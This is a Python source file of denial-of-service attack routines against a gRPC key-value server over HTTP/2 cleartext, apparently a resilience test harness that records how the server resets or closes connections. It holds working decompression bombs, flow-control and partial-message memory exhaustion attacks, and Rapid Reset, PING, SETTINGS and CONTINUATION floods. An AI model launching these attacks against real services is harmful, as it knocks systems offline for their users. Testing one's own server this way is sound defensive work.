"""Attacks on the gRPC face (h2c with prior knowledge on the tcp:// port)."""
import select, socket, struct, time, zlib
from common import *

MiB = 1 << 20
GET = "/kv.v1.Store/Get"; PUT = "/kv.v1.Store/Put"; APPLY = "/kv.v1.Store/Apply"

class H2Reader:
    """Non-blocking reader of server frames: tracks flow-control windows, ACKs SETTINGS,
    answers PINGs, records RST_STREAM / GOAWAY and DATA per stream."""
    def __init__(self, s):
        self.s = s; self.buf = bytearray(); self.conn_win = 65535; self.init_win = 65535
        self.stream_win = {}; self.rst = {}; self.goaway = None; self.data = {}; self.eof = False
        self.frames = {}; self.peer_settings = False

    def pump(self, timeout=0.0):
        r, _, _ = select.select([self.s], [], [], timeout)
        if not r:
            return
        try:
            d = self.s.recv(1 << 20)
        except (BlockingIOError, socket.timeout):
            return
        except OSError:
            self.eof = True; return
        if not d:
            self.eof = True; return
        self.buf += d
        while len(self.buf) >= 9:
            ln = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + ln:
                break
            typ, flags = self.buf[3], self.buf[4]
            sid = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            p = bytes(self.buf[9:9 + ln]); del self.buf[:9 + ln]
            self.frames[typ] = self.frames.get(typ, 0) + 1
            if typ == H2_SETTINGS and not flags & 1:
                for i in range(0, len(p), 6):
                    k, v = struct.unpack(">HI", p[i:i + 6])
                    if k == 4:
                        delta = v - self.init_win; self.init_win = v
                        for k2 in self.stream_win: self.stream_win[k2] += delta
                self.s.sendall(h2frame(H2_SETTINGS, 1, 0))
                self.peer_settings = True
            elif typ == H2_WU:
                inc = struct.unpack(">I", p)[0] & 0x7FFFFFFF
                if sid == 0: self.conn_win += inc
                else: self.stream_win[sid] = self.stream_win.get(sid, self.init_win) + inc
            elif typ == H2_PING and not flags & 1:
                self.s.sendall(h2frame(H2_PING, 1, 0, p))
            elif typ == H2_RST:
                self.rst[sid] = struct.unpack(">I", p)[0]
            elif typ == H2_GOAWAY:
                self.goaway = struct.unpack(">II", p[:8]) + (p[8:60],)
            elif typ == H2_DATA:
                self.data[sid] = self.data.get(sid, b"") + p

    def win(self, sid):
        return min(self.conn_win, self.stream_win.setdefault(sid, self.init_win))

def h2_connect_reading(srv, settings=()):
    """An h2c connection whose H2Reader has seen the server's SETTINGS (its initial window
    included, which h2_connect would read past), for clients that send within windows."""
    s = h2_connect(srv.host, srv.port, settings=settings, read_server_settings=False)
    rd = H2Reader(s)
    t = time.monotonic()
    while not rd.peer_settings and not rd.eof and time.monotonic() - t < 5:
        rd.pump(0.1)
    return s, rd

def read_until_cut(rd, t0, dur):
    """Keeps reading (answering PINGs, draining) until `dur` s after `t0`; the time, from `t0`,
    at which the server closed the connection, or None if it did not."""
    cut = None
    while time.monotonic() - t0 < dur:
        rd.pump(0.1)
        if rd.eof and cut is None:
            cut = time.monotonic() - t0
    return cut

def send_data_windowed(s, rd, sid, data, end_stream, deadline):
    """Sends `data` on stream sid in DATA frames of at most 16 KiB (the default
    SETTINGS_MAX_FRAME_SIZE), each only within the peer's stream and connection windows
    (reading the peer's frames meanwhile). Returns the bytes sent (less than len(data) if the
    deadline passed or the connection closed first)."""
    off = 0
    while off < len(data):
        rd.pump(0)
        if rd.eof or sid in rd.rst:
            break
        w = rd.win(sid)
        if w <= 0:
            if time.monotonic() > deadline:
                break
            rd.pump(0.01)
            continue
        n = min(16384, w, len(data) - off)
        last = end_stream and off + n == len(data)
        try:
            s.sendall(h2frame(H2_DATA, 1 if last else 0, sid, data[off:off + n]))
        except OSError:
            rd.eof = True
            break
        rd.conn_win -= n; rd.stream_win[sid] -= n; off += n
    return off

def attack_grpc_gzip_window0(srv, dur=20):
    """#1 with gzip: SETTINGS_INITIAL_WINDOW_SIZE=0 (the server can send no answer's DATA), 20
    unary Gets whose request is a 61 KB gzip member inflating to 60 MiB. The bombs are larger
    than the server's windows, so this client reads the server's frames (for its
    WINDOW_UPDATEs) and sends within them; the answers stay unsendable, as in #1."""
    bomb = pb_gzip_bomb(get_request("big"), 60 * MiB)
    s, rd = h2_connect_reading(srv, settings=[(4, 0), (2, 0)])
    t0 = time.monotonic()
    sent = 0
    for i in range(20):
        sid = 1 + 2 * i
        try:
            s.sendall(h2frame(H2_HEADERS, 4, sid, grpc_headers(GET, extra=[("grpc-encoding", "gzip")])))
        except OSError:
            rd.eof = True
            break
        msg = grpc_msg(bomb, compressed=True)
        if send_data_windowed(s, rd, sid, msg, True, t0 + 10) == len(msg):
            sent += 1
        if rd.eof:
            break
    cut = read_until_cut(rd, t0, dur)
    s.close()
    note = "sent %d/20 x %d B gzip bombs (60 MiB each inflated) in windows; answers unsendable (window 0); RST %d streams %s; GOAWAY %s; cut %s" % (
        sent, len(bomb), len(rd.rst), sorted(set(rd.rst.values())), rd.goaway[:2] if rd.goaway else None,
        "at %.1f s" % cut if cut else "no (within %d s)" % dur)
    return {"notes": note, "t0": t0}

def attack_grpc_zstd_never_read(srv, dur=20):
    """#1: SETTINGS_INITIAL_WINDOW_SIZE=0, never reads, 20 unary Gets whose request is a 1.9 KB
    zstd frame that inflates to 60 MiB (a GetRequest for the 1 MiB value + an unknown field)."""
    bomb = pb_bomb(get_request("big"), 60 * MiB)
    s = h2_connect(srv.host, srv.port, settings=[(4, 0), (2, 0)])
    t0 = time.monotonic()
    out = b""
    for i in range(20):
        sid = 1 + 2 * i
        out += h2frame(H2_HEADERS, 4, sid, grpc_headers(GET, extra=[("grpc-encoding", "zstd")]))
        out += h2frame(H2_DATA, 1, sid, grpc_msg(bomb, compressed=True))
    s.sendall(out)
    w = CutWatcher([s], t0, mode="state")
    time.sleep(dur)
    note = "sent 20 x %d B bombs (60 MiB each inflated); never read; %s" % (len(bomb), w.summary())
    w.close_all()
    return {"notes": note, "t0": t0}

def _partial_streams(srv, n_streams, per_stream_target, announced, path, dur, send_limit_s):
    s = h2_connect(srv.host, srv.port, read_server_settings=False)
    s.settimeout(5)
    rd = H2Reader(s)
    t0 = time.monotonic()
    sent = {}
    for i in range(n_streams):
        sid = 1 + 2 * i
        s.sendall(h2frame(H2_HEADERS, 4, sid, grpc_headers(path)))
        sent[sid] = 0
    # the 5-byte prefix goes in the first DATA frame of each stream
    first = {sid: True for sid in sent}
    last_progress = time.monotonic()
    while time.monotonic() - t0 < send_limit_s and not rd.eof:
        rd.pump(0.005)
        progressed = False
        for sid in sent:
            if sid in rd.rst or sent[sid] >= per_stream_target:
                continue
            w = rd.win(sid)
            if w <= 5:
                continue
            n = min(16384, w, per_stream_target - sent[sid] + (5 if first[sid] else 0))
            if first[sid]:
                payload = struct.pack(">BI", 0, announced) + b"x" * (n - 5)
            else:
                payload = b"x" * n
            try:
                s.sendall(h2frame(H2_DATA, 0, sid, payload))
            except OSError:
                rd.eof = True
                break
            body = len(payload) - (5 if first[sid] else 0)
            first[sid] = False
            sent[sid] += body; rd.conn_win -= len(payload); rd.stream_win[sid] -= len(payload)
            progressed = True
        if progressed:
            last_progress = time.monotonic()
        elif all(v >= per_stream_target or k in rd.rst for k, v in sent.items()):
            break
        elif time.monotonic() - last_progress > 3:
            break
    send_time = time.monotonic() - t0
    total = sum(sent.values())
    # quiet: keep reading (answer PINGs, drain) but send nothing more
    cut_at = read_until_cut(rd, t0, dur)
    s.close()
    note = ("%d streams announcing %d MiB, sent %.1f MiB body in %.1f s (per stream %.1f-%.1f MiB), then quiet; "
            "RST %d streams %s; GOAWAY %s; cut %s" % (
                n_streams, announced // MiB, total / MiB, send_time, min(sent.values()) / MiB,
                max(sent.values()) / MiB, len(rd.rst), sorted(set(rd.rst.values())),
                rd.goaway[:2] if rd.goaway else None,
                "at %.1f s" % cut_at if cut_at else "no (within %d s)" % dur))
    return {"notes": note, "t0": t0}

def attack_grpc_partial_messages(srv, dur=45):
    """#2: 16 streams each announce a 60 MiB message and send 54 MiB (what the windows allow,
    for at most 25 s), then go quiet (still reading)."""
    return _partial_streams(srv, 16, 54 * MiB, 60 * MiB, PUT, dur, 25)

def attack_grpc_announce_only(srv, dur=40):
    """#2b: 20 streams each announce a 60 MiB message, send 1 byte of it, go quiet."""
    return _partial_streams(srv, 20, 1, 60 * MiB, PUT, dur, 5)

def attack_grpc_stream_bombs(srv, dur=20, encoding="zstd"):
    """#3: one client-streaming Apply call carrying 20 messages, each a 1.9 KB zstd frame that
    inflates to a 60 MiB Mutation (a small put + an unknown field). encoding="gzip": each a
    61 KB gzip member, sent within the server's windows."""
    mut = pb_bytes(1, put_request("bombkey", "x"))
    bomb = pb_bomb(mut, 60 * MiB) if encoding == "zstd" else pb_gzip_bomb(mut, 60 * MiB)
    if encoding == "zstd":
        s = h2_connect(srv.host, srv.port)
        rd = H2Reader(s)
    else:
        s, rd = h2_connect_reading(srv)
    t0 = time.monotonic()
    s.sendall(h2frame(H2_HEADERS, 4, 1, grpc_headers(APPLY, extra=[("grpc-encoding", encoding)])))
    n_sent = 0
    for i in range(20):
        if encoding == "zstd":
            s.sendall(h2frame(H2_DATA, 1 if i == 19 else 0, 1, grpc_msg(bomb, compressed=True)))
        else:
            msg = grpc_msg(bomb, compressed=True)
            if send_data_windowed(s, rd, 1, msg, i == 19, t0 + dur / 2) < len(msg):
                break
        n_sent += 1
    done = None
    while time.monotonic() - t0 < dur:
        rd.pump(0.1)
        if (1 in rd.rst or rd.data.get(1) or rd.eof) and done is None:
            done = time.monotonic() - t0
        if done and time.monotonic() - t0 > done + 2:
            break
    d = rd.data.get(1, b"")
    summ = "no DATA (trailers-only: an error status)"
    if len(d) >= 5:
        body = d[5:]
        if d[0] == 1:
            try:
                body = zlib.decompress(body, 31)
            except zlib.error:
                body = None
        if body is None:
            summ = "a compressed (not gzip) ApplySummary of %d B" % (len(d) - 5)
        else:
            puts = body[1] if body[:1] == b"\x08" else None
            summ = "ApplySummary puts=%s" % puts
    s.close()
    note = "%s x %d B %s (60 MiB each) on one Apply stream; answer after %s: %s; RST=%s frames=%s" % (
        20 if encoding == "zstd" else "%d/20" % n_sent, len(bomb), "bombs" if encoding == "zstd" else "%s bombs" % encoding,
        "%.1f s" % done if done else "-", summ, rd.rst.get(1), rd.frames)
    return {"notes": note, "t0": t0}

def attack_grpc_gzip_stream_bombs(srv, dur=20):
    """#3 with gzip: one Apply stream, 20 messages each a 61 KB gzip member inflating to 60 MiB."""
    return attack_grpc_stream_bombs(srv, dur, encoding="gzip")

def attack_h2_floods(srv, dur=15):
    """Extras: PING flood (reading), SETTINGS flood (never reading the ACKs), Rapid Reset
    (HEADERS + RST_STREAM x 5000), CONTINUATION flood (a header block that never ends)."""
    t0 = time.monotonic(); notes = []
    # PING flood, answers read
    s = h2_connect(srv.host, srv.port); rd = H2Reader(s)
    for i in range(5000):
        try: s.sendall(h2frame(H2_PING, 0, 0, struct.pack(">Q", i)))
        except OSError: break
        if i % 100 == 0: rd.pump(0)
    t = time.monotonic()
    while time.monotonic() - t < 2 and not rd.eof: rd.pump(0.1)
    notes.append("PINGx5000: %d acks, GOAWAY %s, closed %s" % (rd.frames.get(H2_PING, 0), rd.goaway[:2] if rd.goaway else None, rd.eof))
    s.close()
    # SETTINGS flood, never reading
    s = h2_connect(srv.host, srv.port); s.settimeout(2); n = 0
    try:
        for n in range(1, 100001):
            s.sendall(h2settings([(4, 65535)]))
    except OSError as e:
        pass
    notes.append("SETTINGSx%d sent before the socket blocked/closed (state %d)" % (n, tcp_state(s)))
    s.close()
    # Rapid Reset
    s = h2_connect(srv.host, srv.port); rd = H2Reader(s); k = 0
    try:
        for k in range(5000):
            sid = 1 + 2 * k
            s.sendall(h2frame(H2_HEADERS, 4, sid, grpc_headers(GET)) + h2frame(H2_RST, 0, sid, struct.pack(">I", 8)))
            if k % 50 == 0: rd.pump(0)
            if rd.eof or rd.goaway: break
    except OSError:
        pass
    t = time.monotonic()
    while time.monotonic() - t < 2 and not rd.eof: rd.pump(0.1)
    notes.append("RapidReset: %d HEADERS+RST sent, GOAWAY %s, closed %s" % (k + 1, rd.goaway[:2] if rd.goaway else None, rd.eof))
    s.close()
    # CONTINUATION flood
    s = h2_connect(srv.host, srv.port); rd = H2Reader(s); sent = 0
    s.sendall(h2frame(H2_HEADERS, 0, 1, grpc_headers(GET)))
    blk = b"".join(hp_lit("x-pad-%d" % i, "v" * 200) for i in range(70))[:16000]
    try:
        while sent < 256 * MiB and time.monotonic() - t0 < 12:
            s.sendall(h2frame(H2_CONT, 0, 1, blk)); sent += len(blk)
            if sent % (1 << 20) < 16000: rd.pump(0)
            if rd.eof: break
    except OSError:
        pass
    t = time.monotonic()
    while time.monotonic() - t < 2 and not rd.eof: rd.pump(0.1)
    notes.append("CONTINUATION flood: %.1f MiB of header block sent, GOAWAY %s, closed %s" % (sent / MiB, rd.goaway[:2] if rd.goaway else None, rd.eof))
    s.close()
    return {"notes": " | ".join(notes), "t0": t0}

def attack_grpc_partial_over_budget(srv, dur=45):
    """#2c: as #2 with 20 streams (20 x 54 MiB = 1080 MiB > the 1 GiB budget), then quiet."""
    return _partial_streams(srv, 20, 54 * MiB, 60 * MiB, PUT, dur, 25)
